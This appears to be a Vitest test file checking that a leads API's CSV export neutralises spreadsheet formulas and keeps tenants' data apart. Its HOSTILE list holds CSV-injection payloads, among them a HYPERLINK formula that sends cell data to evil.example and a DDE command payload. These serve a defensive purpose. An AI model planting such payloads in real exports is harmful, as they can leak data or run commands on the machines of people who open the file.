import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { createTestApp, type TestApp } from '../support/app.ts';
import { createTenant, type TestTenant } from '../support/tenant.ts';

const HOSTILE = [
  `=HYPERLINK("http://evil.example?x="&A1,"open")`,
  `+cmd|' /C calc'!A0`,
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  `a","=1+1`,
  `a"\r\n=1+1,"b`,
];

let app: TestApp;
let tenant: TestTenant;
let stranger: TestTenant;
beforeAll(async () => {
  app = await createTestApp();
  tenant = await createTenant(app.database, 'Tenant');
  stranger = await createTenant(app.database, 'Stranger');
});
afterAll(() => app.close());

const exported = (who: TestTenant, query = '', role: 'owner' | 'viewer' = 'owner') =>
  app.request('GET', `/v1/leads.csv${query}`, { headers: who.keys[role].headers });

test('what a spreadsheet would run is stored as it is and exported as text, one lead to a line', async () => {
  // sabotage: src/api/kit/export.ts :: const safe = FORMULA_START.test(value) ? `'${value}` : value; => const safe = value;
  // sabotage: src/api/kit/export.ts :: `"${safe.replaceAll('"', '""')}"` => `"${safe}"`
  const { id: tenantId, keys } = tenant;
  for (const [index, notes] of HOSTILE.entries()) {
    const url = `https://formula-${index}.example`;
    const made = await app.request('POST', '/v1/leads', { headers: keys.owner.headers, json: { url } });
    // Straight into the row: by whichever way it came, the export must not trust it.
    const change = { notes, company_name: notes, industry: notes };
    await app.database.admin`update leads set ${app.database.admin(change)}
      where tenant_id = ${tenantId} and id = ${made.body.lead.id}`;
  }
  const { status, text, headers } = await exported(tenant);
  expect([status, headers.get('content-type')]).toEqual([200, 'text/csv']);
  const rows = parse(text, { columns: true }) as Record<string, string>[];
  expect(rows).toHaveLength(HOSTILE.length);
  for (const [index, row] of rows.entries()) {
    for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
    expect([row.notes, `${row.notes}`.replace(/^'/, '')]).toContain(HOSTILE[index]);
    expect(row.domain).toBe(`formula-${index}.example`);
  }
});

test("another tenant's export, and that of who sees own leads only, holds nothing but the names of the columns", async () => {
  // sabotage: src/runtime/database/database.ts :: '${actor.seesAll ? 'on' : 'off'}' => 'on'
  const json = { url: 'https://formula-own.example' };
  const { body } = await app.request('POST', '/v1/leads', { headers: tenant.keys.owner.headers, json });
  expect((await exported(tenant)).text, 'it is there to be seen').toContain(body.lead.id);
  const answers = [
    await exported(stranger),
    await exported(stranger, '?q=formula'),
    await exported(stranger, '?status=new'),
    await exported(stranger, `?assigned_to=${tenant.members.owner.id}`),
    await exported(tenant, '', 'viewer'),
  ];
  for (const { status, text } of answers) {
    expect([status, text.trim().split('\r\n')]).toEqual([200, [expect.stringMatching(/^id,url,/)]]);
    expect(text).not.toContain(body.lead.id);
  }
});
